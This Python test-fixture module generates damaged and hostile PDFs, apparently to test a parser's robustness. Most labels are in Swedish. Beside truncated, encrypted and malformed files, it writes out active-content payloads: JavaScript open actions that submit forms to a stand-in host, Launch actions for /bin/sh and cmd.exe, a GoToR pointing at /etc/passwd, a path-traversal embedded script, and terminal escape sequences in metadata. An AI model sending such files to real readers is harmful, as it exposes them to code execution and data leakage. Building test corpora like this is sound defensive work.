"""PDFs that are broken, locked, wrongly measured, or that would do something when opened."""

from collections.abc import Callable, Mapping
from functools import partial
from pathlib import Path

import pikepdf

from tests.raw_pdf import TEXT, one_page, stream

_CUTS = 20
_BOXES = {
    "jättelik": b"[0 0 1000000000 1000000000]",
    "för stor att räkna": b"[0 0 1e308 1e308]",
    "bakvänd": b"[600 800 -600 -800]",
    "utan yta": b"[0 0 0 0]",
    "mikroskopisk": b"[0 0 0.0001 0.0001]",
    "utan tal": b"[/A (B) null nan]",
    "för kort": b"[0 0]",
    "långt borta": b"[-9999999999 -9999999999 -9999999000 -9999999000]",
}
_NUMBERS = (b"99999999999999999999", b"-2147483648", b"1e309", b"0.000000000000001", b"--7", b"nan")
_DOES = b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('http://example.invalid'\\))>>"
_ACTIONS = {
    "skript vid öppning": b"/OpenAction%s" % _DOES,
    "skript i namn": b"/Names<</JavaScript<</Names[(a)%s]>>>>" % _DOES,
    "skript vid stängning": b"/AA<</WC%s/DS%s>>" % (_DOES, _DOES),
    "start av program": b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>",
    "webbadress": b"/OpenAction<</S/URI/URI(http://example.invalid/)>>",
    "formulär som skickas": b"/OpenAction<</S/SubmitForm/F(http://example.invalid/)>>",
    "annan fil": b"/OpenAction<</S/GoToR/F(/etc/passwd)/D[0/Fit]>>",
    "bifogad fil": b"/Names<</EmbeddedFiles<</Names[(../../x.sh) 6 0 R]>>>>",
    "XFA": b"/AcroForm<</Fields[]/XFA 7 0 R>>",
    "rörlig bild": b"/Names<</RichMedia<</Names[(a) 6 0 R]>>>>",
}


def truncated(path: Path, part: int) -> Path:
    data = one_page(path).read_bytes()
    path.write_bytes(data[: len(data) * part // _CUTS])
    return path


def replaced(path: Path, old: bytes, new: bytes) -> Path:
    data = one_page(path).read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new))
    return path


def encrypted(path: Path, password: str) -> Path:
    with pikepdf.open(one_page(path), allow_overwriting_input=True) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(owner="ägarens", user=password))
    return path


def page_of(path: Path, box: bytes) -> Path:
    return one_page(path, box=box)


def number_everywhere(path: Path, number: bytes) -> Path:
    """As size, place, width, matrix, and as numbers of the file itself."""
    contents = b"BT /T %s Tf %s %s Td %s Tc %s Tz 1 0 0 %s 0 0 Tm (%s) Tj ET %s 0 0 1 0 0 cm "
    drawn = TEXT + b" " + contents % (*[number] * 6, b"Kommunen ansvarar", number)
    rest = b"0 0 %s %s re f %s w %s %s m 10 10 l S" % ((number,) * 5)
    page = b"/Rotate %s/UserUnit %s/CropBox[0 0 %s %s]/StructParents %s" % ((number,) * 5)
    return one_page(path, contents=stream(drawn + b" " + rest), page=page)


def acting(path: Path, catalogue: bytes) -> Path:
    files = b"<</Type/Filespec/F(../../x.sh)/EF<</F 7 0 R>>>>"
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/A%s>>]/AA<</O%s>>"
    return one_page(
        path,
        catalogue=catalogue,
        page=link % (_DOES, _DOES),
        more=[files, stream(b"#!/bin/sh\ntouch /tmp/belagg-was-here\n")],
    )


def described(path: Path, value: bytes) -> Path:
    """Its metadata, its bookmark and its page label are this string."""
    more = [
        b"<</Title%s/Author%s/CreationDate%s>>" % ((value,) * 3),
        b"<</Type/Outlines/First 8 0 R/Last 8 0 R>>",
        b"<</Title%s/Parent 7 0 R/Dest[3 0 R/Fit]>>" % value,
    ]
    catalogue = b"/Outlines 7 0 R/PageLabels<</Nums[0<</P%s/S/D>>]>>" % value
    return one_page(path, catalogue=catalogue, more=more, trailer=b"/Info 6 0 R")


def strange_letters(path: Path, codes: list[bytes]) -> Path:
    """Its letters say that they are characters of these codes (UTF-16 in hex)."""
    pairs = b"\n".join(b"<%02x><%s>" % (0x41 + at, code) for at, code in enumerate(codes))
    table = (
        b"/CIDInit/ProcSet findresource begin 12 dict begin begincmap\n"
        b"1 begincodespacerange<00><ff>endcodespacerange\n"
        b"%d beginbfchar\n%s\nendbfchar endcmap end end" % (len(codes), pairs)
    )
    letters = bytes(range(0x41, 0x41 + len(codes)))
    line = b"BT /T 11 Tf 70 650 Td (%s) Tj ET " % letters
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return one_page(path, contents=stream(line * 3 + TEXT), font=font, more=[stream(table)])


def long_word(path: Path, length: int) -> Path:
    words = b"BT /T 0.1 Tf 20 600 Td (%s ansvarar.) Tj ET " % (b"kommun" * (length // 6))
    return one_page(path, contents=stream(words + TEXT))


def nothing_but(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


DAMAGE: Mapping[str, Callable[[Path], Path]] = {
    **{f"avhuggen vid {5 * part} %": partial(truncated, part=part) for part in range(1, _CUTS)},
    "korsreferenser på fel plats": partial(replaced, old=b"startxref\n", new=b"startxref\n9"),
    "korsreferenser till ingenstans": partial(replaced, old=b"00000 n", new=b"99999 n"),
    "negativ plats": partial(replaced, old=b"startxref\n", new=b"startxref\n-"),
    "utan rot": partial(replaced, old=b"/Root 1 0 R", new=b""),
    "rot som är sidan": partial(replaced, old=b"/Root 1 0 R", new=b"/Root 3 0 R"),
    "rot som är ett tal": partial(replaced, old=b"/Root 1 0 R", new=b"/Root 7"),
    "sidor som är ett tal": partial(replaced, old=b"/Pages 2 0 R", new=b"/Pages 7"),
    "barn som inte finns": partial(replaced, old=b"/Kids[3 0 R]", new=b"/Kids[99 0 R 3 0 R]"),
    "barn som är tal": partial(replaced, old=b"/Kids[3 0 R]", new=b"/Kids[7 (a) null]"),
    "fel längd": partial(replaced, old=b"/Length", new=b"/Length 99999999/Langd"),
    "okänt filter": partial(replaced, old=b"/FlateDecode", new=b"/Okant"),
    "bara huvudet": partial(nothing_but, data=b"%PDF-1.7\n"),
    "krypterad utan lösenord": partial(encrypted, password=""),
    "krypterad på okänt sätt": partial(
        one_page, trailer=b"/ID[<00><00>]/Encrypt<</Filter/Okant/V 7/Length 40>>"
    ),
    "bokstäver satta baklänges": partial(
        one_page, contents=stream(TEXT.replace(b"/T 11 Tf", b"/T -11 Tf"))
    ),
    "krypterad med lösenord": partial(encrypted, password="hemligt"),
    **{f"sida, {name}": partial(page_of, box=box) for name, box in _BOXES.items()},
    **{f"talet {n.decode()}": partial(number_everywhere, number=n) for n in _NUMBERS},
    **{name: partial(acting, catalogue=entries) for name, entries in _ACTIONS.items()},
    "uppgifter som inte är text": partial(described, value=b"[1 2 3]"),
    "uppgifter i fel kodning": partial(described, value=b"<feffd800>"),
    "uppgifter av styrtecken": partial(described, value=b"<001b5b334a07000a0d9b>"),
    "uppgifter på 5 000 tecken": partial(described, value=b"(%s)" % (b"A" * 5000)),
    "ett ord på 5 000 tecken": partial(long_word, length=5000),
    "uppgifter som är ett tal": partial(described, value=b" 7 "),
    "bokstäver som är halva": partial(strange_letters, codes=[b"d800", b"dfff", b"0041"]),
    "bokstäver som styr": partial(
        strange_letters, codes=[b"0000", b"001b", b"005b", b"202e", b"2066", b"009b", b"000d"]
    ),
}
LOCKED = frozenset({"krypterad med lösenord"})
ACTING = tuple(_ACTIONS)
